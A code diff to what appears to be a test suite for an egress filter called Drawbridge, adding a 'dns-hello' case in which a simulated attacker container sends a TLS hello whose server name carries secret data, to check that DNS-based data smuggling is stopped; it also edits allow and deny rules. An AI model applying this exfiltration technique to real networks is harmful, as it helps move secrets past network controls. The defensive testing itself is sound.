@@ -1,4 +1,5 @@
 /** Data in questions: whatever is asked, of whomever, a name that is not permitted reaches no resolver. */
+import { encryptedHello, helloFor } from '../pure/connections/hello-maker.js';
 import { ask, type Query } from './dns.js';
 import type { Family } from './report.js';
 import { type Attempt, asked, attackSuite, type How, PERMITTED, seen } from './technique.js';
@@ -20,6 +21,13 @@ const shaped = (shape: Shape, reached = asked): How => ({
   attack: (a) => ask(a, shape(a)),
   reached,
 });
+/** A hello with an encrypted one, on a connection that an entry for its address permits; ends once the server or Drawbridge has reacted. */
+const hello = (a: Attempt, name: string): Promise<unknown> => {
+  const bytes = helloFor(name, encryptedHello(8)).toString('hex');
+  const script = `const s = require('node:net').connect(443, '${PERMITTED[a.family]}', () => s.write(Buffer.from('${bytes}', 'hex')));
+    s.on('error', () => {}).on('data', () => s.destroy()).on('close', () => process.exit()).setTimeout(8000, () => s.destroy());`;
+  return a.attacker.exec(['node', '-e', script]);
+};
 /** The tag's letters as upper and lower case of a permitted name: data without a byte that does not belong. */
 const inCase = (a: Attempt): string => {
   const bits = [...a.tag].map((c) => c.charCodeAt(0) % 2 === 1);
@@ -32,7 +40,9 @@ attackSuite(
   'DNS tunnels',
   {
     attacker: {
-      labels: { 'drawbridge.allow': `${PERMITTED.v4}:80, [${PERMITTED.v6}]:80, .${MAY}` },
+      labels: {
+        'drawbridge.allow': `${PERMITTED.v4}:80, [${PERMITTED.v6}]:80, ${PERMITTED.v4}:443, [${PERMITTED.v6}]:443, .${MAY}, !denied.${OURS}`,
+      },
       args: ['--dns-search', `search.${OURS}`],
     },
     prepare: (lab) =>
@@ -182,6 +192,23 @@ attackSuite(
         (a) => ({ server: a.target, port: 5353, name: secret(a) }),
         (a) => seen(a),
       ),
+    },
+    {
+      id: 'dns-hello',
+      title: 'data in the name of a hello whose record would show whether its encrypted name can be read',
+      stoppedBy:
+        'the record of a name in a hello is looked up if the container may query it itself, and for no other one',
+      families: BOTH,
+      attack: async (a) => {
+        await ask(a, { name: secret(a), type: 65 });
+        await hello(a, secret(a));
+        if (a.side === 'control') return;
+        // the record of a permitted name is looked up: this hello was read
+        await hello(a, `record.${MAY}`);
+        const queries = await a.lab.dns.queries(`record.${MAY}`);
+        if (!queries.some((q) => q.type === 'HTTPS')) throw new Error('no record was looked up at all');
+      },
+      reached: asked,
     },
     {
       id: 'dns-designated-resolver',
